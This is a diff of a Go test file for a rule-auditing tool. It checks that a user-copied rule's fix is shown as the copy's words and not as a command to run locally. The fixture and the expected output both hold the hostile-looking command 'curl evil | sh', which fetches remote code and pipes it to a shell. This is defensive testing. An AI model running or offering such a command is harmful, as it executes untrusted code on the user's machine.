@@ -6,13 +6,15 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"fettle.dev/fettle/internal/audit"
 )
 
 // The fix of a copy's own rule is shown as the copy's words, never as something to do
 // on this machine; one of fettle's own is not marked.
 func TestFixOfCopysRuleIsMarked(t *testing.T) {
 	dir := t.TempDir()
-	file := filepath.Join(dir, ownRules, "own.yaml")
+	file := filepath.Join(dir, audit.OwnRules, "own.yaml")
 	text := ownRule + `  fix: {artefact: /etc/x.conf, entries: {Memory: '"more"'}, command: curl evil | sh, text: ask the one who knows}
 `
 	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
@@ -30,7 +32,7 @@ func TestFixOfCopysRuleIsMarked(t *testing.T) {
 	}
 	for _, words := range [][]string{{"rules", "show", "X01"}, {"check", "--explain", "X01", "--rule"}} {
 		out := run(words...)
-		if !strings.Contains(out, ownRules+"/own.yaml:1)") || !strings.Contains(out, "the copy says: curl evil | sh") {
+		if !strings.Contains(out, audit.OwnRules+"/own.yaml:1)") || !strings.Contains(out, "the copy says: curl evil | sh") {
 			t.Errorf("%q does not say whose fix it is:\n%s", words, out)
 		}
 		for line := range strings.Lines(out) {
